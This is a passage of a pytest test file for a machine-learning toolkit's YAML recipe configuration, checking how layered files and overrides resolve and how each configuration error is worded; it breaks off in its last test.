"""Recipes: how the layers add up, and the sentence that a person reads for each thing that can be wrong with them."""

from __future__ import annotations

import math
import random
import sys
from collections.abc import Callable
from dataclasses import replace
from operator import attrgetter
from pathlib import Path
from types import SimpleNamespace

import pytest
import yaml

from hftune import run, tasks
from hftune.config.importing import import_named
from hftune.config.recipe import EvalConfig, Recipe, TrackConfig, TrainConfig
from hftune.config.shipped_files import recipe_names
from hftune.errors import ConfigError, format_value

PLAIN = """
task:
  type: SequenceClassification
  model: null
  model_config: {model_type: bert, hidden_size: 16}
  dataset: hftune.data.demo:reviews
"""

OWN_TASKS = """
from dataclasses import dataclass, field
from typing import Any

from hftune import Task


class Whole(Task):
    def datasets(self): return {}
    def build_model(self): return None
    def loss(self, outputs, target): return None


@dataclass
class Tuned(Whole):
    path: str
    size: tuple[int, int] = (2, 3)
    options: dict[str, Any] = field(default_factory=dict)


@dataclass
class Reports(Whole):
    metric_directions = {"f1": "max", "length": None}


@dataclass
class Unfinished(Task):
    def datasets(self): return {}


@dataclass
class Unreadable(Whole):
    names: set = field(default_factory=set)


class NoDataclass(Whole):
    path: str = "a"


class NoTask:
    pass
"""

SECTIONS = "Sections: task, train, adapter, eval, checkpoint, parallel, track. Keys at the top: base, replace, recipe, seed, output_dir, resume, callbacks."
TASKS = f"Shipped: {', '.join(tasks.__all__)}."
SHIPPED = "hftune recipes lists those that ship with hftune. For a file of your own, give its path, ending in .yaml."


@pytest.fixture
def write(tmp_path: Path) -> Callable[[str, str], Path]:
    """Return a function that writes a file in tmp_path and returns its path."""

    def write_file(name: str, text: str) -> Path:
        path = tmp_path / name
        path.write_text(text, encoding="utf-8")
        return path

    return write_file


@pytest.fixture
def plain(write) -> Path:
    """A recipe with nothing in it but the task."""
    return write("plain.yaml", PLAIN)


@pytest.fixture
def own_tasks(write, tmp_path, monkeypatch) -> None:
    """Make a module own_tasks importable."""
    write("own_tasks.py", OWN_TASKS)
    monkeypatch.syspath_prepend(tmp_path)
    monkeypatch.delitem(sys.modules, "own_tasks", raising=False)


def refusal(*argv: str) -> str:
    """Return the whole message with which a recipe is refused, by reading it or by looking at what it names."""
    with pytest.raises(ConfigError) as caught:
        Recipe.from_argv(list(argv)).validate()
    return str(caught.value)


# How the layers add up


BELOW = {
    "below": PLAIN + "train: {batch_size: 64, lr: 0.25, weight_decay: 0.1, epochs: 7}",
    "middle": "base: below.yaml\ntrain: {lr: 0.2}",
    "reports": "task: {type: own_tasks.Reports}",
    "step": PLAIN + "train: {schedule: step, gamma: 0.5, step_size: 2}",
    "cosine": PLAIN + "train: {schedule: cosine, min_lr: 1e-6}",
    "adamw": PLAIN + "train: {optimizer: adamw, betas: [0.9, 0.95], weight_decay: 0.1}",
}


@pytest.fixture
def above(write, own_tasks) -> Callable[[str], Path]:
    """Return a function that writes a recipe above below.yaml, or above another base that its text names."""
    for name, text in BELOW.items():
        write(f"{name}.yaml", text)
    return lambda text: write("mine.yaml", text if "base:" in text else f"base: below.yaml\n{text}")


FILES = "task: {data_files: {train: a.jsonl, eval: b.jsonl}}"
GPT2 = "task: {model_config: {model_type: gpt2}}"
SUMS = [
    # Whose value counts
    ("train: {lr: 0.5, weight_decay: 0.2}", ["train.weight_decay=0.3"],
     {"train.batch_size": 64, "train.lr": 0.5, "train.weight_decay": 0.3}),
    ("base: middle.yaml\nseed: 7", [], {"train.batch_size": 64, "train.lr": 0.2, "seed": 7}),
    ("base: yelp_demo\ntrain: {lr: 0.5}", [],
     {"train.lr": 0.5, "eval.metric": "accuracy", "recipe": "mine", "output_dir": "outputs/mine"}),
    ("train:\n  # lr: 0.5\n", [], {"train.lr": 0.25}),
    ("", ["train="], {"train.lr": 0.25}),
    ("base: reports.yaml\ntask: {type: own_tasks.Tuned, path: a}", [], {"task.path": "a"}),
    ("", ["train.lr=1", "train.lr=2"], {"train.lr": 2.0}),
    # Types
    ("train: {lr: 5e-5, weight_decay: 1}", [], {"train.lr": 5e-5, "train.weight_decay": 1.0}),
    ("", ["train.lr=3e-5"], {"train.lr": 3e-5}),
    *[(f"train: {{mixed_precision: {word}}}", [], {"train.mixed_precision": "no"})
      for word in ("no", "'no'", "No", "off", "false")],
    ("train: {mixed_precision: bf16}", [], {"train.mixed_precision": "bf16"}),
    ("train: {mixed_precision: bf16}", ["train.mixed_precision=no"], {"train.mixed_precision": "no"}),
    *[(f"train: {{packing: {word}}}", [], {"train.packing": "off"}) for word in ("off", "'off'", "false")],
    ("train: {betas: [0.8, 0.95]}", [], {"train.betas": (0.8, 0.95)}),
    ("", ["train.betas=[0.7,0.9]"], {"train.betas": (0.7, 0.9)}),
    ("", ["train.betas=[0,0]"], {"train.betas": (0.0, 0.0)}),
    ("train: {clip_norm: null, max_steps: 5}", ["train.max_steps=null"], {"train.clip_norm": None, "train.max_steps": None}),
    ("track: {with: [wandb]}", [], {"track.with_": ["wandb"]}),
    ("track: {with: [wandb]}", ["track.with=[tensorboard,wandb]"], {"track.with_": ["tensorboard", "wandb"]}),
    ("track: {with: [wandb]}", ["track.with=[]"], {"track.with_": []}),
    ("", ["train.batch_size=8", "train.micro_batch_size=8"], {"train.max_rows": 8}),
    ("", ["track.run_name='1:30'", "seed=0", "task.label_names=['01','02']"],
     {"track.run_name": "1:30", "seed": 0, "task.label_names": ["01", "02"]}),
    # Free mappings
    ("", ["task.model_config.hidden_size=32", "task.model_config.x=1"],
     {"task.model_config": {"model_type": "bert", "hidden_size": 32, "x": 1}}),
    ("", ["task.data_files.train=a", "task.data_files.eval=[b,c]"], {"task.data_files": {"train": "a", "eval": ["b", "c"]}}),
    (FILES, [], {"task.data_files": {"train": "a.jsonl", "eval": "b.jsonl"}}),
    (FILES, ["task.data_files=null", "task.model_config=null"], {"task.data_files": None, "task.model_config": {}}),
    # References
    ("", ["train.micro_batch_size=${train.batch_size}", "train.batch_size=16"], {"train.micro_batch_size": 16}),
    ("", ["output_dir=runs/${recipe}-${seed}-${train.batch_size}"], {"output_dir": "runs/mine-42-64"}),
    # What a base brings along
    (GPT2, [], {"task.model_config": {"model_type": "gpt2", "hidden_size": 16}}),
    (f"replace: [task.model_config]\n{GPT2}", [], {"task.model_config": {"model_type": "gpt2"}, "train.lr": 0.25}),
    ("replace: [task.model_config.hidden_size, train]", [],
     {"task.model_config": {"model_type": "bert"}, "train": TrainConfig()}),
    ("replace: [task]\ntask: {type: own_tasks.Tuned, path: a}", [], {"task.path": "a", "train.lr": 0.25}),
    (PLAIN + "# base: none", ["replace=[task.model_config]", "task.model_config={model_type: gpt2}"],
     {"task.model_config": {"model_type": "gpt2"}}),
    ("base: step.yaml", ["train.schedule=linear"], {"train.schedule": "linear", "train.gamma": None, "train.step_size": 1}),
    ("base: cosine.yaml\ntrain: {schedule: constant}", [], {"train.min_lr": 0.0}),
    ("base: cosine.yaml\ntrain: {schedule: linear}", [], {"train.min_lr": 1e-6}),
    ("base: adamw.yaml\ntrain: {optimizer: torch.optim.RMSprop}", [], {"train.betas": (0.9, 0.999), "train.weight_decay": 0.1}),
]  # fmt: skip


@pytest.mark.parametrize(("text", "words", "expected"), SUMS)
def test_files_and_words_add_up_to_these_values(above, text, words, expected):
    recipe = Recipe.from_argv([*words, f"recipe={above(text)}"])
    for key, value in expected.items():
        found = attrgetter(key)(recipe)
        assert (found, type(found)) == (value, type(value)), key


def test_a_task_of_ones_own_has_its_fields_as_keys(write, own_tasks):
    path = write("mine.yaml", "task: {type: own_tasks.Tuned, path: here, options: {a: 1}}")
    recipe = Recipe.load(path, "task.size=[4,5]", "task.options.b.c=2")
    recipe.validate()
    assert vars(recipe.task) == {"path": "here", "size": (4, 5), "options": {"a": 1, "b": {"c": 2}}}
    assert recipe.to_dict()["task"]["type"] == "own_tasks.Tuned"
    assert Recipe.load(write("recipe.yaml", recipe.to_yaml())) == recipe


# The resolved recipe


FOLDERS = ("restoration", "image_classification", "segmentation", "detection", "audio_classification", "ctc", "speech_to_text")


@pytest.mark.parametrize("name", recipe_names())
def test_every_shipped_recipe_is_accepted(name, write, tmp_path):
    files = [f"task.data_files.{part}={write('rows.jsonl', '{}')}" for part in ("train", "eval")]
    folder = [f"task.data_dir={tmp_path}"]
    (tmp_path / "config.json").write_text("{}")
    model = [f"task.model={tmp_path}"]
    missing = {"bigbird": files, **dict.fromkeys(FOLDERS, folder)}  # they have no data of their own
    missing |= {"chats_lora_demo": model}  # its model is the result of another one
    needs_files = Recipe.load(name).task.dataset is None  # a recipe for a problem, and data of one's own
    recipe = Recipe.from_argv([f"recipe={name}", *missing.get(name, files if needs_files else [])])
    recipe.validate()
    assert (recipe.recipe, recipe.output_dir) == (name, f"outputs/{name}")


@pytest.mark.parametrize("name", recipe_names())
def test_every_shipped_recipe_is_equal_after_a_round_trip(name, write):
    recipe = Recipe.load(name)
    assert Recipe.load(write("recipe.yaml", recipe.to_yaml())) == recipe


def test_a_resolved_recipe_holds_every_override(plain, write):
    overrides = [
        "seed=7",
        "output_dir=elsewhere",
        "task.data_files={train: a.jsonl, eval: [b.jsonl]}",
        "task.label_names=['1','no',null text,'a: b','ä','']",
        "train.betas=[0.5,0.75]",
        "train.clip_norm=null",
        "train.micro_batch_size=${train.batch_size}",
        "train.mixed_precision=no",
        "eval.every=2 epochs",
        "track.with=[wandb]",
        "track.run_name='1e-3'",
    ]
    recipe = Recipe.load(plain, *overrides)
    again = Recipe.load(write("recipe.yaml", recipe.to_yaml()))
    assert again == recipe
    assert again.task.label_names == ["1", "no", "null text", "a: b", "ä", ""]
    assert (again.train.betas, again.train.mixed_precision, again.track.run_name) == ((0.5, 0.75), "no", "1e-3")
    assert (again.recipe, again.output_dir, recipe.to_dict()["track"]["with"]) == ("plain", "elsewhere", ["wandb"])


def test_a_model_to_register_must_be_uploaded(plain):
    said = refusal(f"recipe={plain}", "track.with=[mlflow]", "track.upload=none", "track.register=stars")
    assert "track.register=stars" in said and "track.upload=none" in said and said.endswith("Set it to best.")


# Which recipe


@pytest.mark.parametrize(
    ("files", "words", "hint"),
    [
        ({}, ["recipe=yelp-demo"], f"recipe=yelp-demo: there is no such recipe. Did you mean 'yelp_demo'? {SHIPPED}"),
        ({}, ["recipe=resnet"], f"recipe=resnet: there is no such recipe. {SHIPPED}"),
        ({}, ["recipe="], "recipe=: there is no such recipe."),
        ({}, ["recipe=/no/where.yaml"], "recipe=/no/where.yaml: there is no such file (looked at /no/where.yaml)."),
        ({}, ["recipe=mine.yaml"], "recipe=mine.yaml: there is no such file (looked at HERE/mine.yaml)."),
        ({}, ["train.lr=1"], "Name one recipe, such as recipe=yelp_demo; 0 were given."),
        ({}, ["recipe=yelp", "recipe=yelp"], "Name one recipe, such as recipe=yelp_demo; 2 were given."),
        (
            {"a.yaml": "base: yelp-demo"},
            ["recipe=a.yaml"],
            "base=yelp-demo: there is no such recipe. Did you mean 'yelp_demo'?",
        ),
        ({"a.yaml": "base: [a]"}, ["recipe=a.yaml"], "base=['a'] is not the name or the path of a recipe. (a.yaml)"),
        (
            {"a.yaml": "base: b.yaml", "b.yaml": "base: a.yaml"},
            ["recipe=a.yaml"],
            "base=a.yaml leads back to HERE/a.yaml: a recipe cannot be its own base. (b.yaml)",
        ),
        ({}, ["recipe=yelp", "base=yelp"], "base=... belongs in a recipe file; here, name the recipe itself: recipe=..."),
        (
            {"a.yaml": "task:\n  type: [a\ntrain: 3\n"},
            ["recipe=a.yaml"],
            "a.yaml cannot be read: while parsing a flow sequence",
        ),
        ({"a.yaml": "task:\n  type: [a\ntrain: 3\n"}, ["recipe=a.yaml"], 'in "a.yaml", line 3, column 6'),
        ({"a.yaml": "train: {lr: 1}\ntrain: {lr: 2}\n"}, ["recipe=a.yaml"], "found duplicate key train"),
        ({"a.yaml": "- a\n- b\n"}, ["recipe=a.yaml"], "a.yaml is not a recipe: at its top level it needs keys such as task:"),
    ],
)
def test_a_recipe_that_cannot_be_read_says_which_and_why(write, tmp_path, monkeypatch, files, words, hint):
    monkeypatch.chdir(tmp_path)
    for name, text in files.items():
        write(name, text)
    assert hint in refusal(*words).replace(str(tmp_path), "HERE")


# Arguments


# Keys


# Words, keys and values


NO_KEY = "is not a key of a recipe. Did you mean "
WRONG_WORDS = [
    *[(word, f"{word!r} is not of the form section.key=value")
      for word in ("train.lr", "--lr=3", "=3", "train.lr =3", "train[lr]=3")],
    ("train.lr=[", "train.lr=[ cannot be read: did not find expected node content."),
    ("train.lr={a", "train.lr={a cannot be read: did not find expected ',' or '}'."),
    ("train.lr='a", "train.lr='a cannot be read: found unexpected end of stream."),
    *[
        (f"{key}=1", f"{key} {NO_KEY}'{near}'?")
        for key, near in {
            "train.lrr": "train.lr", "task.max_lenght": "task.max_length", "track.projekt": "track.project",
            "outputdir": "output_dir", "trian.lr": "train.lr", "evl.batch_size": "eval.batch_size", "eval.lr": "train.lr",
            "train.max_length": "task.max_length", "lr": "train.lr", "batch_size": "train.batch_size", "model": "task.model",
            "with": "track.with",
            # as other toolkits and Trainer call them
            "train.learning_rate": "train.lr", "num_train_epochs": "train.epochs", "optim": "train.optimizer",
            "train.gradient_accumulation_steps": "train.batch_size",
            "train.bf16": "train.mixed_precision", "train.save_total_limit": "checkpoint.keep",
            "train.metric_for_best_model": "eval.metric", "train.resume_from_checkpoint": "resume",
        }.items()
    ],
    ("track.xyz=1", "Keys of track: with, project, run_name, entity, group, tags, notes, job_type, upload, register."),
    ("xyz=1", SECTIONS),
    ("xyz.uvw=1", SECTIONS),
    ("train.lr=abc", "train.lr='abc' is not a number, such as 5e-05."),
    *[(f"train.lr={text}", "is not a number") for text in ("[1]", "true", "null")],
    ("train.batch_size=1.5", "is not a whole number, such as 32."),
    ("train.micro_batch_size=many", "is not a whole number, nor auto. null: 8,"),
    ("train.profile=5", "is not a list such as [a,b] or null."),
    ("train.profile=[3, 2]", "must be the first and the last step"),
    ("train.profile=[1, 2, 3]", "must be the first and the last step"),
    ("train.clip_norm=big", "is not a number or null, such as 1.0."),
    ("train.compile=2", "is not true or false."),
    ("eval.greater_is_better=0.5", "is not true or false or null."),
    ("train.betas=[0.9]", "is not a list of 2 numbers, such as [0.9,0.999]."),
    ("train.betas=[0.9,x]", "is not a list of 2 numbers"),
    ("eval.metric=[a]", "is not a string, such as loss."),
    ("track.with=wandb", "is not a list such as [a,b]."),
    ("task.label_names=a", "is not a list such as [a,b] or null."),
    ("task.data_files=a.jsonl", "is not a section of keys or null."),
    ("seed=x", "is not a whole number, such as 42."),
    ("train.schedule=cosin", "is not one of linear, cosine, constant, step,"),
    ("train.schedule=cosin", "nor a dotted path such as my_module.my_schedule. Did you mean 'cosine'?"),
    ("train.schedule=null", "is not a string, such as linear."),
    ("train.optimizer=AdamW", "Did you mean 'adamw'?"),
    ("train.mixed_precision=fp61", "is not one of no, bf16, fp16, auto. Did you mean 'fp16'?"),
    ("train.mixed_precision=true", "is not one of no, bf16, fp16, auto."),
    ("train.packing=on", "is not one of auto, off."),
    ("track.with=[wanb]", "Did you mean 'wandb'?"),
    ("track.upload=bset", "is not one of none, best, all. Did you mean 'best'?"),
    ("adapter.targets=[]", "is neither all-linear nor a list of names"),
    ("train.parts=64", "is larger than train.batch_size=32"),
    ("train.micro_batch_size=33", "a micro-batch is a part of the global batch. Lower the first or raise the second."),
    ("train.lr=nan", "must be above 0 and finite."),
    ("train.weight_decay=inf", "must be at least 0 and finite."),
    ("train.betas=[0.9,1]", "each must be in [0, 1)."),
    ("train.clip_norm=0", "must be above 0. null: no clipping."),
    ("seed=4294967296", "must be in [0, 4294967295]."),
    ("task.max_length=2", "must be at least 3."),
    *[(f"eval.every={text}", "is neither a number of steps") for text in ("0", "0 epochs", "'20'", "epoch 2")],
    *[(f"{key}=${{train.nope}}", f"{key}: Interpolation key 'train.nope' not found.") for key in ("train.lr", "seed")],
    *[
        (f"train.epochs={text}", f"YAML reads {text} as the number {number}. Write {number}, or put a text in")
        for text, number in {"1:30": 90, "010": 8, "1:30.5": 90.5, "-1:00": -60}.items()
    ],
    ("train.momentum=0.9", "train.momentum=0.9 needs train.optimizer=sgd, not adamw."),
    ("train.optimizer_args={lr: 0.1}", "train.optimizer_args.lr does not belong there: set train.lr instead."),
    ("train.optimizer_args={betas: 1}", "train.optimizer_args.betas does not belong there: set train.betas instead."),
    ("train.gamma=0.5", "train.gamma=0.5 needs train.schedule=step or plateau, not linear."),
    ("eval.metrics=[f1,f1]", "eval.metrics=['f1', 'f1'] names f1 twice."),
    ("yelp_demo", "'yelp_demo' is not of the form section.key=value"),
]  # fmt: skip


@pytest.mark.parametrize(("word", "hint"), WRONG_WORDS)
def test_a_wrong_word_is_named_with_its_key_and_what_would_fit(plain, word, hint):
    said = refusal(f"recipe={plain}", "seed=7", word, "train.num_workers=0")
    assert hint in said and word.partition("=")[0] in said and "\n" not in said


def test_a_list_of_arguments_is_to_be_unpacked(plain):
    with pytest.raises(ConfigError, match=r"is not of the form .* Unpack the list: Recipe\.load\(name, \*overrides\)\.$"):
        Recipe.load(plain, ["train.lr=1", "seed=2"])


def test_a_recipe_without_its_key_is_understood(tmp_path):
    (tmp_path / "recipe.yaml").touch()
    assert refusal(str(tmp_path)).endswith(f" Did you mean recipe={tmp_path}/recipe.yaml?")
    assert refusal("yelp_demo").endswith(" Did you mean recipe=yelp_demo?")


WRONG_FILES = [
    ("base: below.yaml\ntrain: {lrr: 1}", [], "train.lrr is not a key of a recipe. Did you mean 'train.lr'? (HERE/mine.yaml)"),
    ("base: wrong.yaml\nseed: 7", [], "train.lrr is not a key of a recipe. Did you mean 'train.lr'? (HERE/wrong.yaml)"),
    ("train: 3", [], "train=3 must be a section of keys, such as train.epochs=... (HERE/mine.yaml)"),
    ("train: [a]", [], "train=['a'] must be a section of keys"),
    ("track: wandb", [], "track='wandb' must be a section of keys, such as track.with=... (HERE/mine.yaml)"),
    ("train: {lr: abc}", [], "train.lr='abc' is not a number, such as 5e-05. (HERE/mine.yaml)"),
    ("train:\n  epochs: 1:30\n", [], "put a text in quotes: '1:30'. (HERE/mine.yaml)"),
    ("train: {batch_size: 0}", [], "train.batch_size=0 must be at least 1. (HERE/mine.yaml)"),
    ("train: {micro_batch_size: 9}", ["train.batch_size=8"], "train.micro_batch_size=9 is larger than train.batch_size=8"),
    ("train: {micro_batch_size: 9}", ["train.batch_size=8"],
     "(train.batch_size: the command line; train.micro_batch_size: HERE/mine.yaml)"),
    ("task: {model: ./nowhere}", [], "task.model=./nowhere: there is no such folder. (HERE/mine.yaml)"),
    ("replace: [task.modelconfig]", [], "is not a key of a recipe. Did you mean 'task.model_config'? (HERE/mine.yaml)"),
    ("replace: task", [], "replace='task' is not a list of keys, such as [task.model_config]. (HERE/mine.yaml)"),
    ("replace: [1]", [], "replace=[1] is not a list of keys"),
    (PLAIN + "replace: [train]  # base: none", [], "replace=['train'] has no effect without a base. (HERE/mine.yaml)"),
    ("train: {schedule: linear}", ["train.gamma=0.5"], "(train.schedule: HERE/mine.yaml; train.gamma: the command line)"),
    ("replace: [task.model_config]", [], "task.model=null builds a new model: set task.model_config.model_type"),
]  # fmt: skip


@pytest.mark.parametrize(("text", "words", "hint"), WRONG_FILES)
def test_what_is_wrong_in_a_file_is_named_with_the_file_it_comes_from(above, write, tmp_path, text, words, hint):
    write("wrong.yaml", PLAIN + "train: {lrr: 1}")
    assert hint in refusal(f"recipe={above(text)}", *words).replace(str(tmp_path), "HERE")


@pytest.mark.parametrize(
    "text", ["1e3", "1.10", "1234e56", "8e12345", "0x10", "1_000", "010", "1:30", "2024-01-01", "no", "on"]
)
def test_a_text_stays_as_it_is_typed_though_yaml_would_read_it_as_something_else(write, text):
    """Also in lists and mappings typed as texts; from files and from the command line."""
    words = ["track.run_name={}", "task.model_revision={}", "task.label_names=[a, {}]", "train.optimizer_args={{{}: 1}}"]
    path = write("mine.yaml", PLAIN + f"  model_revision: {text}\n  label_names: [a, {text}]\ntrack: {{run_name: {text}}}\n")
    for recipe in (Recipe.load(path), Recipe.load("yelp_demo", *(word.format(text) for word in words))):
        assert recipe.track.run_name == recipe.task.model_revision == text and recipe.task.label_names == ["a", text]
        assert Recipe.load(write("again.yaml", recipe.to_yaml())) == recipe
    assert recipe.train.optimizer_args == {text: 1}
    prefixes = Recipe.load("embeddings_demo", f"task.prefixes={{a: {text}}}", f"task.prefixes.b={text}").task.prefixes
    assert prefixes == {"a": text, "b": text}


def test_a_number_that_python_gives_for_a_text_is_refused_as_nobody_knows_how_it_was_written(plain):
    for key, value in {"track.run_name": 1e3, "task.label_names": ["a", True]}.items():
        with pytest.raises(ConfigError, match=rf"^{key}=.*: this key takes a text\. Quote it\.$"):
            Recipe.load(plain, {key: value})


def test_overrides_may_be_mappings_whose_values_are_taken_as_they_are(plain):
    words = ("train.lr=1", "task.data_files.eval=b")
    recipe = Recipe.load(plain, *words, {"train.lr": 2, "task": {"data_files": {"eval": "a #b"}}, "output_dir": Path("x: y")})
    assert (recipe.train.lr, recipe.task.data_files["eval"], recipe.output_dir) == (2.0, "a #b", "x: y")
    for wrong in (["train.lr=1"], {"train[lr]": 1}, {3: 1}):
        with pytest.raises(ConfigError, match=r"such as train\.lr"):
            Recipe.load(plain, wrong)


def test_a_formatted_value_is_read_back_as_the_same_value(plain):
    letters = "ab 1e3.0x_-+:#'\"\\,[]{}&*!|>%@`~?=\n\t\r\0\x1b\x7f\x85\xa0\u2028\ufeff\uffffé名😀$"
    rng = random.Random(0)
    texts = ["", "null", "~", "no", "1e3", "a #b", "- a", "'", '"', "\\", "<<", *letters]
    texts += ["".join(rng.choices(letters, k=rng.randrange(12))) for _ in range(500)]
    assert Recipe.load(plain, f"task.label_names={format_value(texts)}").task.label_names == texts
    values = {text: [1e-5, 1e16, -math.inf, True, None, {"a": 3}] for text in texts}
    assert Recipe.load(plain, f"train.optimizer_args={format_value(values)}").train.optimizer_args == values
    assert math.isnan(Recipe.load(plain, f"train.optimizer_args.a={format_value(math.nan)}").train.optimizer_args["a"])


def test_all_problems_are_listed_at_once(plain):
    """Those of words, keys and values at once; and then those of what the recipe names."""
    words = [
        "train.lr=abc",
        "train.lrr=1",
        "train.batch_size=0",
        "train.clip_norm=-1",
        "eval.every=sometimes",
        "track.with=[x]",
    ]
    head, *problems = refusal(f"recipe={plain}", *words, "seed=-1").splitlines()
    assert head == "Recipe 'plain' has 7 problems:"
    keys = [
        "train.lr='abc'",
        "train.lrr",
        "seed=-1",
        "train.batch_size=0",
        "train.clip_norm=-1.0",
        "eval.every=",
        "track.with=",
    ]
    assert [problem.startswith(f"  {key}") for problem, key in zip(problems, keys, strict=True)] == [True] * 7
    head, model, metric = refusal(f"recipe={plain}", "task.model=./nowhere", "eval.metric=acuracy").splitlines()
    assert (head, model) == ("Recipe 'plain' has 2 problems:", "  task.model=./nowhere: there is no such folder.")
    assert metric.startswith("  eval.metric='acuracy' is not computed by") and metric.endswith("Did you mean 'accuracy'?")


@pytest.mark.parametrize(
    ("build", "words"),
    [
        (lambda: TrainConfig(batch_size=0, epochs=0), ["train.batch_size=0", "train.epochs=0"]),
        (lambda: TrainConfig(schedule="cosin"), ["train.schedule=cosin"]),
        (lambda: EvalConfig(every=0), ["eval.every=0"]),
        (lambda: TrackConfig(with_=["wanb"]), ["track.with=[wanb]"]),
    ],
)
def test_code_meets_the_same_sentence_as_the_command_line(plain, build, words):
    with pytest.raises(ConfigError) as caught:
        build()
    assert str(caught.value).replace("The recipe", "Recipe 'plain'") == refusal(f"recipe={plain}", *words)


# Tasks


@pytest.mark.parametrize(
    ("text", "hint"),
    [
        *[(text, "task.type is missing.") for text in ("seed: 1", "task: {model: a}", "task:", "task: 3", "task: [a]", "")],
        ("SequenceClasification", f"{TASKS} Did you mean 'SequenceClassification'?"),
        ("no_such_module.Thing", f"cannot be imported: No module named 'no_such_module'. {TASKS}"),
        ("own_tasks.Nothing", "cannot be imported: module 'own_tasks' has no attribute 'Nothing'."),
        (".Thing", "cannot be imported: Empty module name."),
        ("own_tasks.NoTask", "is not a subclass of hftune.Task."),
        ("own_tasks.NoDataclass", "must be a dataclass: write @dataclass above the class."),
        ("own_tasks.Unfinished", "must define: build_model, loss."),
        ("own_tasks.Unreadable", "a key cannot be of the type set."),
        ("own_tasks.Tuned", "task.path is missing. It has no default: set task.path=..."),
    ],
)
def test_a_task_type_that_cannot_be_used_says_why(write, own_tasks, text, hint):
    is_name = text and text[0] not in "ts"
    assert hint in refusal(f"recipe={write('mine.yaml', f'task: {{type: {text}}}' if is_name else text)}")


@pytest.mark.parametrize(
    ("recipe", "words", "known"),
    [
        ("plain.yaml", ["eval.metric=rouge"], "It computes: loss, accuracy, macro_f1, mcc, micro_f1, auroc, exact_match,"),
        ("yelp_demo", ["eval.metric=rouge", "task.ordinal=true"], "It computes: loss, accuracy, macro_f1, mcc, mae."),
        ("mine.yaml", ["eval.metric=f2"], "eval.metric='f2' is not computed by Reports. It computes: loss, f1, length."),
        ("yelp_demo", ["eval.metrics=[accuracy]"], "SequenceClassification computes accuracy by itself. Leave it out."),
    ],
)
def test_a_metric_that_the_task_does_not_compute_is_refused(write, plain, own_tasks, monkeypatch, recipe, words, known):
    monkeypatch.chdir(plain.parent)
    write("mine.yaml", "task: {type: own_tasks.Reports}")
    assert known in refusal(f"recipe={recipe}", *words)


@pytest.mark.parametrize(("metric", "said"), [("accuracy", "false"), ("mae", "true"), ("loss", "true")])
def test_a_direction_that_contradicts_the_metric_is_refused(metric, said):
    message = refusal("recipe=yelp_demo", f"eval.metric={metric}", f"eval.greater_is_better={said}")
    assert message.startswith(f"eval.greater_is_better={said} contradicts eval.metric={metric}: ") and "Leave" in message


@pytest.mark.parametrize(
    ("recipe", "metric", "expected"),
    [
        ("yelp_demo", "accuracy", True),
        ("yelp_demo", "mae", False),
        ("bigbird_demo", "rouge_l_char", True),
        ("bigbird_demo", "empty_share", False),
        ("wikitext2_demo", "perplexity", False),
        ("restoration_demo", "l1_inside", False),
        ("restoration_demo", "psnr_inside", True),
        ("mnist_demo", "loss", False),
    ],
)
def test_the_task_says_whether_more_of_a_metric_is_better(recipe, metric, expected):
    loaded = Recipe.load(recipe, f"eval.metric={metric}")
    loaded.validate()
    assert loaded.greater_is_better is expected


@pytest.mark.parametrize(
    ("task", "words"),
    [
        ("own_tasks.Whole", ["eval.metric=f1"]),
        ("own_tasks.Reports", ["eval.metric=length"]),
        ("own_tasks.Reports", ["eval.metrics=[rouge]", "eval.metric=rouge"]),
    ],
)
def test_a_metric_without_a_direction_needs_it_said(write, own_tasks, task, words):
    write("own_tasks.py", OWN_TASKS.replace("class Whole", "@dataclass\nclass Whole"))
    path = write("mine.yaml", f"task: {{type: {task}}}")
    said = refusal(f"recipe={path}", *words)
    assert said.startswith(words[-1]) and "Set eval.greater_is_better to true or false" in said
    for greater in (True, False):
        loaded = Recipe.load(path, *words, f"eval.greater_is_better={str(greater).lower()}")
        loaded.validate()
        assert loaded.greater_is_better is greater


# Files that a recipe names


@pytest.fixture
def files(write) -> SimpleNamespace:
    return SimpleNamespace(train=write("train.jsonl", "{}"), eval=write("eval.jsonl", "{}"))


def with_files(plain: Path, train: object, eval: object) -> list[str]:
    return [f"recipe={plain}", "task.dataset=json", f"task.data_files.train={train}", f"task.data_files.eval={eval}"]


def test_files_that_exist_are_accepted(plain, files, tmp_path):
    for train in (files.train, f"[{files.train},{files.eval}]", f"{tmp_path}/*.jsonl"):
        Recipe.from_argv(with_files(plain, train, files.eval)).validate()


@pytest.mark.parametrize(
    ("words", "hint"),
    [
        (
            ["task.data_files.train=HERE/trian.jsonl"],
            "train=HERE/trian.jsonl: there is no such file. Did you mean HERE/train.jsonl?",
        ),
        (["task.data_files.train=[HERE/train.jsonl,/no/where]"], "task.data_files.train=/no/where: there is no such file."),
        (["task.data_files.train=HERE/*.parquet"], "task.data_files.train=HERE/*.parquet: there is no such file."),
        (["task.data_files=null", "task.dataset=json"], "task.dataset=json needs files: set task.data_files.train=..."),
        (["replace=[task.data_files]", "task.data_files.eval=HERE/eval.jsonl"], "task.data_files.train is missing."),
        (["task.data_files.dev=HERE/eval.jsonl"], "Keys of task.data_files: train, eval, test."),
        (["task.data_files.train=3"], "task.data_files.train=3 is not a path or a list of paths."),
        (["task.data_files.train=[3]"], "task.data_files.train=[3] is not a path or a list of paths."),
    ],
)
def test_files_that_cannot_be_read_are_named(write, files, tmp_path, words, hint):
    path = write("mine.yaml", f"{PLAIN}  data_files: {{train: {files.train}, eval: {files.eval}}}\n".replace("dataset:", "#"))
    assert hint in refusal(f"recipe={path}", *(word.replace("HERE", str(tmp_path)) for word in words)).replace(
        str(tmp_path), "HERE"
    )


def test_a_model_folder_needs_a_config_or_says_what_is_in_it(plain, tmp_path):
    (tmp_path / "empty").mkdir()
    (tmp_path / "run" / "model").mkdir(parents=True)
    (tmp_path / "run" / "model" / "config.json").write_text("{}")
    for folder in ("/no/where", "./nowhere", "~/no/where", "a/b/c"):
        assert refusal(f"recipe={plain}", f"task.model={folder}") == f"task.model={folder}: there is no such folder."
    said = refusal(f"recipe={plain}", f"task.model={tmp_path}/empty")
    assert said.startswith(f"task.model={tmp_path}/empty has no config.json (it has nothing)")
    for name in ("weights.bin", "notes.txt"):
        (tmp_path / "empty" / name).touch()
    assert " (it has notes.txt, weights.bin): " in refusal(f"recipe={plain}", f"task.model={tmp_path}/empty")
    said = refusal(f"recipe={plain}", f"task.model={tmp_path}/run")
    assert " (it has model)" in said and said.endswith(f" Did you mean {tmp_path}/run/model?")
    Recipe.from_argv([f"recipe={plain}", f"task.model={tmp_path}/run/model"]).validate()


# What a base brings along


# Where a value comes from


def test_a_model_that_another_recipe_trains_is_told_with_the_command(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    assert refusal("recipe=chats_lora_demo") == (
